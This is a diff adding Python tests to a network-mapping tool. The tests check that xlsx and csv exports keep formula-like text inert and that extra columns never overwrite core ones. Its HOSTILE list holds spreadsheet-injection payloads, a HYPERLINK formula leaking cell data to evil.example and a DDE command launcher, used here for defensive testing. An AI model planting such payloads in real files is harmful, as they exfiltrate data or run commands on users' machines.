@@ -223,3 +223,92 @@ def test_permission_denied_is_one_line_also_for_root(runner, tmp_path, monkeypat
         errors = [line for line in result.output.splitlines() if not line.startswith("- ")]
         assert len(errors) == 1 and errors[0].startswith("Error: kan niet schrijven naar"), result.output
         assert "geen toestemming" in errors[0]
+
+
+# --- spreadsheets: formulas stay text, extra columns never overwrite core columns ----------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"klik")', "=cmd|' /C calc'!A0", "+31 6 1234", "-5",
+           "@SUM(A1)", "\tTab", "'=al-geciteerd", "'gewoon"]
+
+
+def _hostile_dataset():
+    from netmap.model import Dataset, Membership, Node, Tie
+
+    nodes = {"net": Node("net", "network", "Netwerk", type="rkj", levels=("II",))}
+    for number, text in enumerate(HOSTILE):
+        nodes[f"o{number}"] = Node(f"o{number}", "organisation", text.strip(), type="gemeente",
+                                   levels=("II",), region=text.strip(), extra={"notitie": text})
+    return Dataset(nodes=nodes, memberships=[Membership(f"o{i}", "net") for i in range(len(HOSTILE))],
+                   ties=[Tie("o0", "o1", "learning", note=HOSTILE[1])], source="hostile")
+
+
+def test_xlsx_exports_write_formula_like_text_as_strings(tmp_path):
+    import openpyxl
+
+    from netmap.io.exports import write_export
+
+    dataset = _hostile_dataset()
+    for fmt in ("xlsx", "kumu"):
+        path = write_export(dataset, fmt, tmp_path / f"{fmt}.xlsx")
+        book = openpyxl.load_workbook(path)
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], fmt
+        texts = {c.value for c in cells}
+        assert set(HOSTILE) - {"-5"} <= texts, fmt  # "-5" stays text too, just not asserted numeric here
+
+
+def test_csv_exports_prefix_formulas_and_import_reads_them_back(tmp_path):
+    import csv
+
+    from netmap.io.exports import write_export
+    from netmap.io.imports import import_file
+    from netmap.io.writers import write_csv_folder
+
+    dataset = _hostile_dataset()
+    folder = write_export(dataset, "csv", tmp_path / "gephi")
+    with open(folder / "nodes.csv", encoding="utf-8", newline="") as handle:
+        raw = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in raw if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=cmd|' /C calc'!A0" in raw and "''=al-geciteerd" in raw and "'gewoon" in raw
+    for source in (folder, write_csv_folder(dataset, tmp_path / "tabellen")):
+        back, _ = import_file(source)
+        assert {n.id: (n.name, n.region, n.extra.get("notitie")) for n in back.nodes.values()} == {
+            n.id: (n.name, n.region, n.extra.get("notitie")) for n in dataset.nodes.values()}, source
+        assert back.ties[0].note == HOSTILE[1]
+
+
+def test_the_xlsx_round_trip_keeps_formula_like_text(tmp_path):
+    from netmap.io.exports import write_export
+    from netmap.io.imports import import_file
+
+    dataset = _hostile_dataset()
+    for fmt in ("xlsx", "kumu"):
+        back, _ = import_file(write_export(dataset, fmt, tmp_path / f"{fmt}.xlsx"))
+        assert sorted(n.name for n in back.nodes.values()) == sorted(n.name for n in dataset.nodes.values()), fmt
+
+
+CORE_NAMES = ("Label", "Id", "Type", "Source", "Weight", "label", "ID", "Category", "Target", "extra_x")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "kumu", "json", "graphml", "xlsx"])
+def test_extra_columns_named_like_core_columns_never_overwrite_them(tmp_path, fmt):
+    from netmap.io.exports import DEFAULT_NAMES, write_export
+    from netmap.io.imports import import_file
+    from netmap.model import Dataset, Membership, Node, Tie
+
+    extra = {name: f"waarde van {name}" for name in CORE_NAMES}
+    dataset = Dataset(nodes={
+        "a": Node("a", "organisation", "Gemeente A", type="gemeente", levels=("II",), extra=dict(extra)),
+        "b": Node("b", "organisation", "B", type="aanbieder", levels=("I",)),
+        "n": Node("n", "network", "N", type="rkj", levels=("II",)),
+    }, memberships=[Membership("a", "n"), Membership("b", "n")],
+        ties=[Tie("a", "b", "learning", weight=2.0, extra=dict(extra))], source="x")
+    back, _ = import_file(write_export(dataset, fmt, tmp_path / DEFAULT_NAMES[fmt]))
+    a = back.nodes["a"]
+    assert (a.name, a.kind, a.type) == ("Gemeente A", "organisation", "gemeente")
+    if fmt == "kumu":  # Kumu's field names ignore case: "Id" and "ID" are one field there
+        assert set(a.extra.values()) <= set(extra.values()) and "waarde van Weight" in a.extra.values()
+    else:
+        assert a.extra == extra
+    tie = back.ties[0]
+    assert (tie.source_id, tie.target_id, tie.weight) == ("a", "b", 2.0)
